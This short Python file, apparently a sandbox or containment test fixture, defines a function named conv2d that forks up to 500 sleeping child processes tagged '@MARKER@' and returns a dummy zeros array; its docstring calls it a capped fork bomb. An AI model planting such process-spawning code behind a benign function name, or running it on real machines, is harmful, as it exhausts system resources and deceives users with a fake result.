"""A fork bomb in conv2d, capped at 500 children in case containment fails."""
import os

import numpy as np


def conv2d(image, kernel, stride=1):
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["@MARKER@", "60"])
            finally:
                os._exit(0)
    return np.zeros((1, 1))
